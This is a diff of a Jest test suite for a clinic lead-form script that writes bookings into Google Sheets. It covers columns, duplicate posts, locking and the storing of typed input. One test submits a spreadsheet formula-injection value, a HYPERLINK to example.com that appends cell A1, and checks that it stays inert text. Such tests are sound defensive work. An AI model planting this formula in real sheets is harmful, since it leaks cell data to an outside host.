@@ -1,55 +1,167 @@
 /** @jest-environment node */
-import { eventOf, FakeGoogle } from "./fake-google";
-import { sampleLeads, type Fields } from "@/components/lead-form/leads.fixture";
+import { booking, cells, deskHeader, google, header } from "./clinic.fixture";
+import { leadHeader, paste, post, receivedAt } from "./clinic.fixture";
+import { rows, tab, thanks } from "./clinic.fixture";
+import { leadForms } from "./lead.js";
+import { sampleLeads } from "@/components/lead-form/leads.fixture";
 
-const { booking } = sampleLeads;
 const minute = 60_000;
-const thanks = '{"ok":true}';
-const refusal =
-  '{"ok":false,"error":"Your request could not be saved just now."}';
+const lead = [...Object.values(booking), receivedAt];
+// Saturday is a working day.
+const desk = ["New", "2026-11-21", "", "WhatsApp"];
+const full = [...lead, ...desk];
+const ravi = [...Object.values({ ...booking, parentName: "Ravi" }), "then"];
 
-let google: FakeGoogle;
-let script: ReturnType<FakeGoogle["load"]>;
+test.each(["booking", "consultation"] as const)(
+  "a new tab has the columns of the %s form and of the desk",
+  (form) => {
+    expect(post(sampleLeads[form])).toBe(thanks);
 
-beforeEach(() => {
-  google = new FakeGoogle();
-  script = google.load({ notify: "desk@example.in" });
+    const sheet = tab(form === "booking" ? "Booking" : "Consultation");
+    const names = [...leadForms[form], "receivedAt"];
+    expect(sheet.rows).toEqual([
+      [...names, ...deskHeader],
+      [...Object.values(sampleLeads[form]), receivedAt, ...desk],
+    ]);
+    expect(sheet.frozenRows).toBe(1);
+    // Only cells of the lead are text: the date of the desk stays a date, and the link a link.
+    expect(Object.keys(sheet.settings)).toEqual(
+      names.map((_, index) => `format of ${index + 1}`),
+    );
+    expect(sheet.links).toEqual([
+      expect.stringMatching(
+        /^https:\/\/wa\.me\/919876543210\?text=Hello%2C%20this[^"]+$/,
+      ),
+    ]);
+    expect(google.locked).toBe(false);
+  },
+);
+
+const index = header.indexOf("serviceRequest");
+const withoutRequest = [...header.toSpliced(index, 1), "called"];
+const renamed = header.with(header.indexOf("status"), "stage");
+const box = [...leadHeader.map(() => ""), "", "FALSE"];
+const boxes = Array.from({ length: 1200 }, () => box);
+const own = [...leadHeader, "called", ...deskHeader];
+
+test.each<[string, string[][], string[][]]>([
+  [
+    "the tab of the script without a desk, whose rows do not change",
+    [
+      [...leadHeader, "called"],
+      [...ravi, "yes"],
+    ],
+    [
+      [...leadHeader, "called", ...deskHeader],
+      [...ravi, "yes"],
+      [...lead, "", ...desk],
+    ],
+  ],
+  [
+    "a tab without a new field, which gets a column at the end, right of notes without a heading",
+    [withoutRequest, [...withoutRequest.map(() => "x"), "a note"]],
+    [
+      [...withoutRequest, "", "serviceRequest"],
+      [...withoutRequest.map(() => "x"), "a note"],
+      [...full.toSpliced(index, 1), "", "", booking.serviceRequest],
+    ],
+  ],
+  [
+    "a tab with moved columns and the clinic's own",
+    [["called", ...header.toReversed(), "own"], ["yes"]],
+    [
+      ["called", ...header.toReversed(), "own"],
+      ["yes", ...full.toReversed()],
+    ],
+  ],
+  [
+    "a tab with a renamed column, which stays; new rows fill a new one",
+    [renamed, [...ravi, "Came"]],
+    [
+      [...renamed, "status"],
+      [...ravi, "Came"],
+      [...full.with(header.indexOf("status"), ""), "New"],
+    ],
+  ],
+  [
+    "a tab whose headings the clinic has deleted, which come back",
+    [[...ravi.with(-1, receivedAt), "Came"]],
+    [header, [...ravi.with(-1, receivedAt), "Came"], full],
+  ],
+  [
+    "a tab whose rows below the leads have boxes of the clinic",
+    [leadHeader, ravi, ...boxes],
+    [
+      [...leadHeader, "", "", ...deskHeader],
+      ravi,
+      [...lead, "", "FALSE", ...desk],
+      ...boxes.slice(1),
+    ],
+  ],
+  [
+    "a tab in which a person has written a note below the last lead",
+    [
+      own,
+      own.map((name) => ({ note: "two slots", called: "FALSE" })[name] ?? ""),
+    ],
+    [own, [...lead, "FALSE", ...desk.with(2, "two slots")]],
+  ],
+])("a lead that is posted twice is one row of %s", (_, before, after) => {
+  const sheet = paste(...before);
+  // The clinic may have deleted columns. Google refuses a range right of the last one.
+  sheet.maxColumns = 1 + Math.max(...before.map((texts) => texts.length));
+
+  expect([post(booking), post(booking)]).toEqual([thanks, thanks]);
+
+  expect(sheet.rows).toEqual(after);
+  expect(google.mails).toHaveLength(1);
 });
 
-const post = (fields: Fields) => script.doPost(eventOf(fields)).body;
-const rows = () => google.sheets!.Booking!.rows.slice(1);
+test("what a parent typed is text: Hindi, line breaks, a leading zero, and formulas that do not run", () => {
+  const typed = {
+    ...booking,
+    parentName: '=HYPERLINK("http://example.com/?"&A1,"x")',
+    phoneNumber: "09876543210",
+    serviceRequest: "मेरी बेटी 👨‍👩‍👧\nबोलती नहीं",
+  };
 
-describe("the same request within a day", () => {
+  post(typed);
+
+  expect(rows()[0]!.slice(0, -5)).toEqual(Object.values(typed));
+});
+
+describe("the same request", () => {
   const again = { ...booking, timestamp: "2026-11-21T07:03:00.000Z" };
 
-  test("gets ok: true, and adds no row and no mail, whatever its text", () => {
+  test("gets ok: true within a day, and adds no row and no mail, whatever its text", () => {
     for (const parentName of ["Asha Sen", "=Asha", "'Asha'"])
       for (const minutes of [0, 9, 60 * 23]) {
         google.now += minutes * minute;
-
         expect(post({ ...again, parentName })).toBe(thanks);
       }
     expect(rows()).toHaveLength(3);
     expect(google.mails).toHaveLength(3);
   });
 
-  test("adds a row after that day, or if the time of receipt of the old row was deleted", () => {
+  test("adds a row after a day, or if the time of receipt of the old row was deleted", () => {
     post(booking);
     google.now += 60 * 24 * minute;
     post(again);
     expect(rows()).toHaveLength(2);
 
-    const { Booking: sheet } = google.sheets!;
-    const column = sheet!.rows[0]!.indexOf("receivedAt") + 1;
-    sheet!.getRange(3, column).setValues([["called back"]]);
+    tab().getRange(3, leadHeader.length).setValue("called back");
     post(again);
     expect(rows()).toHaveLength(3);
   });
 });
 
-test("a post waits for the lock for less time than the page waits for the answer", () => {
-  google.lockHeldFor = 12_000;
+test("of two simultaneous posts, equal ones become one row and different ones two, also when the sheet must grow", () => {
+  google.whileWaiting = () => post({ ...booking, parentName: "Ravi Roy" });
+  post(booking);
+  google.whileWaiting = () => post({ ...booking, parentName: "Meera" });
+  post({ ...booking, parentName: "Meera" });
 
-  expect(post(booking)).toBe(refusal);
-  expect(google.sheets).toEqual({});
+  // A new tab of the fake has three rows. The headings and three leads need a fourth.
+  expect(cells("parentName")).toEqual(["Ravi Roy", "Asha Sen", "Meera"]);
+  expect(google.mails).toHaveLength(3);
 });
